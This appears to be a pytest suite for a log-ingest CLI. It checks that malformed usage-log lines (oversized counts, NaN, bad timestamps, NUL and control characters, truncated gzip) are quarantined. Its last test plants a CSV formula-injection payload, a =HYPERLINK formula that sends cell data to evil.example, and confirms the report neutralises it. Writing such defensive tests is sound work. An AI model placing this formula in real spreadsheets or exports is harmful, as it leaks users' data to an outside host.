"""Hostile ingest input: every bad line is quarantined with its field, the good lines around it are
stored and reported (exit 3); a file that cannot be read at all stores nothing (exit 2)."""

from __future__ import annotations

import gzip
import json

import pytest
from sqlalchemy import text

from collectors.logs.settings import MAX_COUNT
from models.db import get_engine

ORG = "org-hostile"
CREATED = 1763900000  # 2025-11-23
SPAN = ("--start", "2025-11-01", "--end", "2025-12-01")


def chat(i: int, **usage) -> dict:
    return {
        "id": f"chatcmpl-{i}",
        "object": "chat.completion",
        "created": CREATED,
        "model": "gpt-4o-mini",
        "usage": {"prompt_tokens": 10 * i, "completion_tokens": i, **usage},
    }


def rows(sql: str, **params):
    with get_engine().connect() as conn:
        return [tuple(r) for r in conn.execute(text(sql), params).all()]


def totals(cli) -> tuple[int, int, int]:
    code, out, err = cli("report", "--org", ORG, *SPAN, "--format", "json")
    assert code == 0, err
    report = json.loads(out)
    return report[0]["requests"], report[0]["input_tokens"], report[0]["output_tokens"]


GOOD = (chat(1), chat(2))  # around every bad line: 2 requests, 30 input tokens, 3 output tokens

BAD_JSON_LINES = {
    "beyond 2^53": ({**chat(9), "usage": {"prompt_tokens": 2**53 + 1}}, "usage.prompt_tokens"),
    "beyond 2^64": (
        '{"id":"x","object":"chat.completion","model":"m","usage":{"prompt_tokens":1' + "0" * 30 + "}}",
        "usage.prompt_tokens",
    ),
    "1e30 tokens": ({**chat(9), "usage": {"prompt_tokens": 1e30}}, "usage.prompt_tokens"),
    "infinite tokens": ('{"id":"x","model":"m","created":1763900000,"usage":{"prompt_tokens":1e400}}', "json"),
    "NaN tokens": ('{"id":"x","model":"m","usage":{"prompt_tokens":NaN}}', "json"),
    "before 1970": ({**chat(9), "created": -86400}, "created"),
    "after 2200": ({**chat(9), "created": 7258118400}, "created"),
    "year 9999 in ms": ({**chat(9), "created": 253402300799000}, "created"),
    "year 1 east of UTC": ({"timestamp": "0001-01-01T00:00:00+14:00", "response": chat(9)}, "timestamp"),
    "year 9999 west of UTC": ({"timestamp": "9999-12-31T23:00:00-14:00", "response": chat(9)}, "timestamp"),
    "NUL in id": ({**chat(9), "id": "chatcmpl-\u0000"}, "id"),
    "NUL in model": ({**chat(9), "model": "gpt-4o\u0000"}, "model"),
    "control character in user": ({"timestamp": CREATED, "user": "ana\u0007", "response": chat(9)}, "user"),
    "NUL in project": ({"timestamp": CREATED, "project": "p\u0000", "response": chat(9)}, "project"),
    "id longer than the column": ({**chat(9), "id": "x" * 201}, "id"),
    "model longer than the column": ({**chat(9), "model": "m" * 201}, "model"),
    "raw NUL in a line": ('{"id":"x","model":"m"\u0000}', "json"),
}


@pytest.mark.parametrize("bad,field", BAD_JSON_LINES.values(), ids=list(BAD_JSON_LINES))
def test_a_bad_jsonl_line_is_quarantined_and_its_neighbours_reported(cli, tmp_path, bad, field):
    log = tmp_path / "hostile.jsonl"
    lines = [json.dumps(GOOD[0]), bad if isinstance(bad, str) else json.dumps(bad), json.dumps(GOOD[1])]
    log.write_text("\n".join(lines) + "\n")
    code, out, err = cli("ingest", log, "--org", ORG)
    assert code == 3, (out, err)
    assert out.strip().splitlines()[-1] == "read=3 ingested=2 duplicate=0 quarantined=1"
    assert rows("SELECT file, line, field FROM quarantine") == [(str(log), 2, field)]
    assert rows("SELECT reason FROM quarantine")[0][0]
    assert totals(cli) == (2, 30, 3)


BAD_CSV_CELLS = {
    "1e30": ("1e30", "in"),
    "nan": ("nan", "in"),
    "inf": ("inf", "in"),
    "-Infinity": ("-Infinity", "in"),
    "negative": ("-3", "in"),
    "fraction": ("1.5", "in"),
    "beyond 2^53": (str(2**53 + 1), "in"),
}


@pytest.mark.parametrize("cell,column", BAD_CSV_CELLS.values(), ids=list(BAD_CSV_CELLS))
def test_a_bad_csv_count_is_quarantined(cli, tmp_path, cell, column):
    log = tmp_path / "hostile.csv"
    log.write_text(f"ts,in,out\n2025-11-23T10:00:00Z,10,1\n2025-11-23T10:00:01Z,{cell},1\n2025-11-23T10:00:02Z,20,2\n")
    code, out, err = cli(
        "ingest", log, "--format", "csv", "--org", ORG, "--model", "gpt-4o-mini",
        "--map", "timestamp=ts", "--map", "input_tokens=in", "--map", "output_tokens=out",
    )  # fmt: skip
    assert code == 3, (out, err)
    assert rows("SELECT line, field FROM quarantine") == [(3, column)]
    assert totals(cli) == (2, 30, 3)


BAD_CSV_TEXT = {
    "NUL in project": ("p\x00", "project"),
    "control character in project": ("p\x1b[31m", "project"),
    "project longer than the column": ("p" * 201, "project"),
    "provider longer than the column": ("x" * 41, "provider"),
    "timestamp in year 2300": ("2300-01-01T00:00:00Z", "ts"),
}


@pytest.mark.parametrize("value,field", BAD_CSV_TEXT.values(), ids=list(BAD_CSV_TEXT))
def test_bad_csv_text_is_quarantined(cli, tmp_path, value, field):
    log = tmp_path / "hostile.csv"
    good = "2025-11-23T10:00:00Z,{},proj,openai,10,1\n"
    cells = {"ts": "2025-11-23T10:00:01Z", "project": "proj", "provider": "openai"} | {field: value}
    bad = f"{cells['ts']},{{}},{cells['project']},{cells['provider']},5,5\n"
    log.write_text("ts,id,project,provider,in,out\n" + good.format("r1") + bad.format("r2") + good.format("r3"))
    code, out, err = cli(
        "ingest", log, "--format", "csv", "--org", ORG, "--model", "gpt-4o-mini",
        "--map", "timestamp=ts", "--map", "request_id=id", "--map", "input_tokens=in", "--map", "output_tokens=out",
    )  # fmt: skip
    assert code == 3, (out, err)
    assert rows("SELECT line, field FROM quarantine") == [(3, field if field != "project" else "project")]
    assert totals(cli) == (2, 20, 2)


def test_cr_only_line_ends_are_lines(cli, tmp_path):
    log = tmp_path / "mac.jsonl"
    log.write_bytes(b"\r".join(json.dumps(chat(i)).encode() for i in (1, 2, 3)) + b"\r")
    code, out, err = cli("ingest", log, "--org", ORG)
    assert code == 0, err
    assert out.strip().splitlines()[-1] == "read=3 ingested=3 duplicate=0 quarantined=0"
    assert totals(cli) == (3, 60, 6)


def test_crlf_line_ends_still_work(cli, tmp_path):
    log = tmp_path / "dos.jsonl"
    log.write_bytes(b"\r\n".join(json.dumps(chat(i)).encode() for i in (1, 2)) + b"\r\n")
    code, out, _ = cli("ingest", log, "--org", ORG)
    assert code == 0 and "read=2 ingested=2" in out


@pytest.mark.parametrize(
    "name,content,message",
    [
        ("not-gzip.jsonl.gz", b'{"id": "x"}\n', "cannot be read"),
        ("binary.jsonl", bytes(range(256)) * 4, "binary file"),
        ("utf16.csv", "ts,in\n2025-11-23,1\n".encode("utf-16"), "binary file"),
    ],
)
def test_an_unreadable_file_exits_2_and_stores_nothing(cli, tmp_path, name, content, message):
    good = tmp_path / "good.jsonl"
    good.write_text(json.dumps(chat(1)) + "\n")
    bad = tmp_path / name
    bad.write_bytes(content)
    code, _, err = cli("ingest", good, bad, "--org", ORG)
    assert code == 2 and message in err
    assert "Traceback" not in err
    assert rows("SELECT COUNT(*) FROM usage") == [(0,)]


def test_a_gzip_cut_short_keeps_the_lines_before_the_cut(cli, tmp_path):
    body = "".join(json.dumps(chat(i)) + "\n" for i in range(1, 2001)).encode()
    whole = gzip.compress(body)
    log = tmp_path / "cut.jsonl.gz"
    log.write_bytes(whole[: len(whole) * 2 // 3])
    code, out, err = cli("ingest", log, "--org", ORG)
    assert code == 3, err
    ((line, field, reason),) = rows("SELECT line, field, reason FROM quarantine")
    stored = rows("SELECT COUNT(*) FROM usage")[0][0]
    assert field == "file" and "unreadable" in reason
    assert 0 < stored < 2000 and line == stored + 1  # every line before the cut, none after
    assert totals(cli)[0] == stored


@pytest.mark.parametrize(
    "args,message",
    [
        (["--project", "p" * 201], "--project is longer than 200"),
        # The CLI root refuses a NUL in any argument before a command sees it (PostgreSQL refuses it in text).
        (["--project", "a\x00b"], "contains a NUL character"),
        (["--project", "a\nb"], "--project contains control characters"),
        (["--model", "m" * 201], "--model is longer than 200"),
        (["--model", "gpt\x1b"], "--model contains control characters"),
        (["--at", "1900-01-01T00:00:00Z"], "outside 1970-2200"),
        (["--at", "nonsense"], "not an ISO 8601 time"),
        (["--org", "o" * 101], "organization id"),
    ],
)
def test_bad_defaults_exit_2_and_store_nothing(cli, tmp_path, args, message):
    log = tmp_path / "good.jsonl"
    log.write_text(json.dumps(chat(1)) + "\n")
    code, _, err = cli("ingest", log, "--org", ORG, *args)
    assert code == 2 and message in err
    assert rows("SELECT COUNT(*) FROM usage") == [(0,)]


def test_largest_counts_sum_without_overflow(cli, tmp_path):
    """Rollups and reports add many maximal lines without overflowing (BIGINT, bounded per line)."""
    log = tmp_path / "big.jsonl"
    log.write_text("".join(json.dumps(chat(i, prompt_tokens=MAX_COUNT)) + "\n" for i in range(1, 1001)))
    code, out, err = cli("ingest", log, "--org", ORG)
    assert code == 0, err
    assert totals(cli)[1] == 1000 * MAX_COUNT
    assert rows("SELECT SUM(input_tokens) FROM rollup_daily")[0][0] == 1000 * MAX_COUNT


def test_rollup_counters_are_bigint_on_postgresql(backend):
    if backend != "postgresql":
        pytest.skip("column types are PostgreSQL's")
    types = rows(
        "SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_name IN "
        "('usage', 'rollup_hourly', 'rollup_daily', 'rollup_daily_project') AND column_name LIKE '%tokens'"
    )
    assert types and {t for _, _, t in types} == {"bigint"}


def test_report_csv_neutralises_formulas_from_logs(cli, tmp_path):
    log = tmp_path / "formula.jsonl"
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    lines = [{"timestamp": CREATED, "project": evil, "user": "@SUM(1+1)", "response": chat(1)}, chat(2)]
    log.write_text("".join(json.dumps(line) + "\n" for line in lines))
    assert cli("ingest", log, "--org", ORG)[0] == 0
    code, out, err = cli("report", "--org", ORG, *SPAN, "--by", "project,user", "--format", "csv")
    assert code == 0, err
    cells = [row.split(",")[0] for row in out.splitlines()[1:]]
    assert "'=HYPERLINK(" in out and "\"'=HYPERLINK(" in out.replace('""', '"')
    assert "'@SUM(1+1)" in out
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    code, out, _ = cli("report", "--org", ORG, *SPAN, "--by", "project", "--format", "json")
    assert evil in out.replace('\\"', '"')  # JSON keeps the value as it was
